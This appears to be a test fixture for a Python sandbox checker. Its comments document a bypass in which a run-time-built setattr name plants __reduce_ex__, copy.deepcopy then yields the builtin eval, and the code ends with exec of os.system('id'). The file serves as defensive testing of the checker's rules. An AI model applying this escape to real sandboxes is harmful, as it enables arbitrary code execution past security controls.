# expect: reject builtin
# why: a run-time-named setattr on self whose name is built by str methods the source
#   never spells with '__' (copy.deepcopy then runs the planted __reduce_ex__)
# line: 28
# goal: the real builtin `eval` as a value (then `id`).
# mechanism: ok_07's chain on a class that is closed only BUT FOR A CLASS KEYWORD
#   (class Box(Plugin, tag="box")), the relaxation of 1c6ed2f: run-time-named setattr on self
#   (WK_USE_NAME_SET is a keyword_free_use) is accepted there too.
# rule slipped: builtin (computed setattr name): written_dunder_text() is syntactic (see ok_07);
#   "--reduce-ex--".replace("-", "_") is no text starting with "__". The keyword class adds
#   nothing to the hole, it only shows the relaxed classes inherit it.
# verify: safe-exec-check rc=0; python3 prints <built-in function eval> and the uid line.
import copy
import typing


def red(proto):
    return (typing.Literal.__getitem__, ("eval",), {"_name": "--builtins--".replace("-", "_")})


class Plugin:
    def __init_subclass__(cls, **kw):
        pass


class Box(Plugin, tag="box"):
    def put(self, name, value):
        setattr(self, name, value)


b = Box()
b.put("--reduce-ex--".replace("-", "_"), red)
ev = copy.deepcopy(copy.deepcopy(b))
print(ev)
ev("exec('import os; os.system(\"id\")')")
